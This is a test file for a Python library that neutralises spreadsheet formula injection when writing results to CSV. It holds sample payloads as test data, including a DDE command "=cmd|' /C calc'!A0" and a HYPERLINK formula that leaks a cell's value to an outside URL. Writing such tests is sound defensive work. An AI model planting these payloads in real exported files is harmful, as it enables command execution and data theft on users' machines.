"""Formula-safe results CSV: dangerous cells guarded, safe cells untouched, a lossless round trip."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bulkprep.csvsafe import FORMULA_GUARD, guard_text, is_formula, neutralize_formulas, write_results_csv
from bulkprep.errors import ConfigurationError
from bulkprep.read import read_csv

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "+1+1",
    "+442079460958",  # a spreadsheet would drop the plus and show 4.42079E+11
    "+12.5",
    "-1+1",
    "-cmd",
    "-",
    "-1e5",
    "- 12",
    "\t=1+1",
    "\r=1+1",
    "\tleading tab",
    "\uff1d1+1",  # the fullwidth forms of = + @ -, read as their ASCII forms in East Asian locales
    "\uff0bcmd",
    "\uff20SUM(1)",
    "\uff0d1+1",
    "\uff0d12",
]
SAFE = [
    "ann@example.com",
    "Ann",
    "",
    " =1+1",  # not at the very start: a spreadsheet shows it as text
    "a=b",
    "1+1",
    "-12.5",
    "-12",
    "-0,5",
    "-.5",
    "12",
    '{"a": "=1"}',
    "Ünïcödé",
    "\uff21nn \uff1d 1",  # a fullwidth letter first; a fullwidth = later on
]


@pytest.mark.parametrize("cell", DANGEROUS)
def test_dangerous_cells_are_guarded(cell: str) -> None:
    assert is_formula(cell)
    out = neutralize_formulas(pd.DataFrame({"c": [cell]}))
    # A carriage return is a trigger where it leads, and a cut for a semicolon-splitting reader: the
    # piece after it is guarded as well.
    expected = FORMULA_GUARD + cell.replace("\r=", "\r'=").replace("\t=", "\t'=")
    assert out.loc[0, "c"] == expected


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("line1\n=cmd|' /C calc'!A0", "line1\n'=cmd|' /C calc'!A0"),
        ("a\r\n@SUM(1)", "a\r\n'@SUM(1)"),
        ("notes\n- first\n+ second", "notes\n'- first\n'+ second"),
        ("two\nlines", "two\nlines"),
        ("name\t=1+1", "name\t'=1+1"),  # a tab is a cut for a reader splitting on tabs
        ("a\t-1", "a\t'-1"),
        ("a;\uff1dcmd", "a;'\uff1dcmd"),
    ],
)
def test_a_formula_after_a_line_break_is_guarded(cell: str, written: str) -> None:
    """A reader splitting on ; does not keep a quoted line break inside its cell: the next line is a
    record of its own, whose first cell must not be a formula."""
    assert is_formula(cell) == (cell != written)
    assert neutralize_formulas(pd.DataFrame({"c": [cell]})).loc[0, "c"] == written


@pytest.mark.parametrize("cell", SAFE)
def test_safe_cells_are_untouched(cell: str) -> None:
    assert not is_formula(cell)
    assert neutralize_formulas(pd.DataFrame({"c": [cell]})).loc[0, "c"] == cell


def test_headers_are_guarded_too() -> None:
    out = neutralize_formulas(pd.DataFrame({"=evil()": [1], "name": [2], 3: [4]}))
    assert list(out.columns) == ["'=evil()", "name", 3]


def test_cells_that_are_not_text_are_untouched() -> None:
    df = pd.DataFrame(
        {
            "int": [-5, 7],
            "float": [-1.5, np.nan],
            "nullable": pd.array([-3, None], dtype="Int64"),
            "mixed": [{"a": "=x"}, -4],
            "bools": [True, False],
            "category": pd.Categorical(["=1", "a"]),
            "none": [None, None],
        }
    )
    out = neutralize_formulas(df)
    pd.testing.assert_frame_equal(out.drop(columns="category"), df.drop(columns="category"))
    assert out["category"].tolist() == ["'=1", "a"]


def test_neutralize_never_mutates_its_input() -> None:
    df = pd.DataFrame({"=c": ["=1", "ok"]})
    before = df.copy()
    neutralize_formulas(df)
    pd.testing.assert_frame_equal(df, before)


def read_back(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")


def test_round_trip_through_read_csv(tmp_path: Path) -> None:
    cells = DANGEROUS + SAFE
    df = pd.DataFrame(
        {
            "bulk_row": range(2, 2 + len(cells)),
            "cell": cells,
            "bulk_user": [{"profile": {"email": "a@example.com", "n": np.int64(3)}, "x": float("nan")}]
            + [None] * (len(cells) - 1),
            "tags": [["a", "=b"]] + [np.nan] * (len(cells) - 1),
        }
    )
    before = df.copy()
    path = write_results_csv(df, tmp_path / "results.csv")
    assert path == tmp_path / "results.csv"
    pd.testing.assert_frame_equal(df, before)  # input untouched

    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a byte order mark, so spreadsheets read UTF-8
    back = read_back(path)
    assert list(back.columns) == ["bulk_row", "cell", "bulk_user", "tags"]
    expected = [
        FORMULA_GUARD + c.replace("\r=", "\r'=").replace("\t=", "\t'=") if c in DANGEROUS else c
        for c in cells
    ]
    assert back["cell"].tolist() == expected
    assert back["bulk_row"].tolist() == [str(i) for i in range(2, 2 + len(cells))]
    assert json.loads(back.loc[0, "bulk_user"]) == {"profile": {"email": "a@example.com", "n": 3}}
    assert back.loc[0, "bulk_user"] == '{"profile":{"email":"a@example.com","n":3}}'  # compact
    assert json.loads(back.loc[0, "tags"]) == ["a", "=b"]
    assert set(back["bulk_user"].iloc[1:]) == {""}  # missing values as empty cells
    assert set(back["tags"].iloc[1:]) == {""}


def test_the_intake_problem_column_is_left_out(tmp_path: Path) -> None:
    frame = read_csv(io.StringIO("id,name\n1,Ann,extra\n2,Bob\n"))
    assert "bulk_read_error" in frame.columns
    back = read_back(write_results_csv(frame, tmp_path / "read.csv"))
    assert list(back.columns) == ["bulk_row", "id", "name"]
    assert back["name"].tolist() == ["Ann", "Bob"]
    assert "bulk_read_error" in frame.columns  # the input keeps it


def test_named_index_is_written_unnamed_is_not(tmp_path: Path) -> None:
    named = pd.DataFrame({"a": ["x"]}, index=pd.Index([7], name="bulk_row"))
    assert list(read_back(write_results_csv(named, tmp_path / "n.csv")).columns) == ["bulk_row", "a"]
    plain = pd.DataFrame({"a": ["x"]}, index=[7])
    assert list(read_back(write_results_csv(plain, tmp_path / "p.csv")).columns) == ["a"]
    both = pd.DataFrame({"bulk_row": [7], "a": ["x"]}, index=pd.Index([7], name="bulk_row"))
    assert list(read_back(write_results_csv(both, tmp_path / "b.csv")).columns) == ["bulk_row", "a"]


def test_other_encodings(tmp_path: Path) -> None:
    df = pd.DataFrame({"name": ["Zoë"]})
    path = write_results_csv(df, tmp_path / "latin.csv", encoding="latin-1")
    assert path.read_bytes() == "name\r\nZoë\r\n".encode("latin-1")
    with pytest.raises(ConfigurationError, match="utf-8-sig"):
        write_results_csv(pd.DataFrame({"name": ["Łukasz"]}), tmp_path / "x.csv", encoding="latin-1")


def test_unwritable_path_is_a_configuration_error(tmp_path: Path) -> None:
    with pytest.raises(ConfigurationError, match="folder exists"):
        write_results_csv(pd.DataFrame({"a": [1]}), tmp_path / "missing" / "results.csv")


cell_text = st.text(
    st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", "a", "1", ".", ",", " ", '"', "'", "é", ";"]),
    max_size=6,
)


@settings(max_examples=50, deadline=None)
@given(st.lists(st.one_of(cell_text, st.none()), min_size=1, max_size=6))
def test_any_text_survives_the_round_trip(tmp_path_factory: pytest.TempPathFactory, cells: list[Any]) -> None:
    # A second column: a line holding only blanks would be skipped by the reader as an empty line.
    df = pd.DataFrame({"bulk_row": range(len(cells)), "c": cells})
    back = read_back(write_results_csv(df, tmp_path_factory.mktemp("rt") / "r.csv"))["c"].tolist()
    expected = ["" if c is None else guard_text(c) for c in cells]
    assert back == expected
    for cell in back:
        assert not is_formula(cell)


def test_the_frame_keeps_its_column_index_and_dtypes() -> None:
    columns = pd.MultiIndex.from_tuples([("a", "b"), ("c", "d")], names=["top", "sub"])
    df = pd.DataFrame([[1, "x;=cmd"], [2, "ok"]], columns=columns)
    out = neutralize_formulas(df)
    assert out.columns.equals(columns)
    assert out.columns.names == ["top", "sub"]
    assert out.iloc[:, 1].tolist() == ["x;'=cmd", "ok"]
    assert out.dtypes.tolist() == df.dtypes.tolist()


def test_many_columns_are_guarded_column_by_column() -> None:
    df = pd.DataFrame({f"c{i}": ["=1", "a;+2", "plain"] if i % 2 else [1, 2, 3] for i in range(3000)})
    out = neutralize_formulas(df)
    assert out["c1"].tolist() == ["'=1", "a;'+2", "plain"]
    assert out["c2998"].tolist() == [1, 2, 3]
    assert out.shape == df.shape


# ------------------------------------------------------------------ what a semicolon-splitting reader sees


def split_cells(path: Path) -> list[str]:
    """Every cell of a written file as spreadsheets that split on ``;`` or on tabs read it."""
    text = path.read_text(encoding="utf-8-sig")
    return [
        cell
        for delimiter in ";\t"
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]


def runs_as_formula(cell: str) -> bool:
    """A leading = @ tab or CR, or a leading sign not followed by a number alone."""
    if not cell:
        return False
    if cell[0] in "=@\t\r":
        return True
    return cell[0] in "+-" and not re.fullmatch(r"[+-](\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?", cell)


@pytest.mark.parametrize(
    "first",
    [
        pytest.param([-1, 2], id="int"),
        pytest.param(pd.array([-1, None], dtype="Int64"), id="nullable-int"),
        pytest.param([-3.5, np.nan], id="float"),
        pytest.param(["-1", "2"], id="text"),
        pytest.param([-1, "a"], id="mixed"),
    ],
)
def test_a_sign_that_starts_a_line_is_guarded(tmp_path: Path, first: Any) -> None:
    """Split on ;, a line is one cell up to its first ;: a first cell -1 reads as -1,ingest,... ."""
    df = pd.DataFrame({"bulk_row": first, "stage": ["ingest", "ingest"]})
    path = write_results_csv(df, tmp_path / "e.csv")
    assert not [cell for cell in split_cells(path) if runs_as_formula(cell)]
    back = read_back(path)
    assert back["bulk_row"].iloc[0] == FORMULA_GUARD + str(df["bulk_row"].iloc[0])
    assert back["bulk_row"].iloc[1] in {"2", "", "a"}  # the other cells as they were


def test_a_file_of_one_column_keeps_its_negative_numbers(tmp_path: Path) -> None:
    path = write_results_csv(pd.DataFrame({"n": [-1, 2]}), tmp_path / "one.csv")
    assert path.read_bytes().decode("utf-8-sig") == "n\r\n-1\r\n2\r\n"


def test_a_header_that_starts_the_line_with_a_sign_is_guarded(tmp_path: Path) -> None:
    path = write_results_csv(pd.DataFrame({"-1": ["a"], "-2": ["b"]}), tmp_path / "h.csv")
    assert path.read_text(encoding="utf-8-sig").splitlines()[0] == "'-1,-2"


def test_numbers_elsewhere_are_written_as_numbers_but_not_minus_infinity_or_a_negative_duration(
    tmp_path: Path,
) -> None:
    df = pd.DataFrame(
        {
            "bulk_row": [2, 3],
            "int": [-5, 7],
            "float": [-1e-05, -np.inf],
            "nullable": pd.array([-0.5, None], dtype="Float64"),
            "wait": pd.to_timedelta(["-1 days", "2 days"]),
        }
    )
    path = write_results_csv(df, tmp_path / "n.csv")
    assert path.read_text(encoding="utf-8-sig").splitlines()[1:] == [
        "2,-5,-1e-05,-0.5,'-1 days",
        "3,7,'-inf,,2 days",
    ]
    assert not [cell for cell in split_cells(path) if runs_as_formula(cell)]


@settings(max_examples=50, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.one_of(st.integers(-5, 5), st.floats(allow_nan=True), cell_text, st.none()),
            st.one_of(st.integers(-5, 5), cell_text),
        ),
        min_size=1,
        max_size=5,
    )
)
def test_no_cell_runs_for_a_reader_splitting_on_semicolons_or_tabs(
    tmp_path_factory: pytest.TempPathFactory, rows: list[tuple[Any, Any]]
) -> None:
    df = pd.DataFrame(rows, columns=["first", "second"])
    path = write_results_csv(df, tmp_path_factory.mktemp("sc") / "s.csv")
    assert not [cell for cell in split_cells(path) if runs_as_formula(cell.lstrip(' "'))]


def test_a_first_cell_whose_trigger_follows_a_quote_is_guarded(tmp_path: Path) -> None:
    # Written as """=",0 a semicolon-splitting reader drops the quotes and starts the line with =.
    df = pd.DataFrame([('"=', 0), (' "@x', 1), ('a"=', 2)], columns=["first", "second"])
    path = write_results_csv(df, tmp_path / "s.csv")
    assert not [cell for cell in split_cells(path) if runs_as_formula(cell.lstrip(' "'))]
    assert pd.read_csv(path, dtype=str)["first"].tolist() == ["'\"=", "' \"@x", 'a"=']
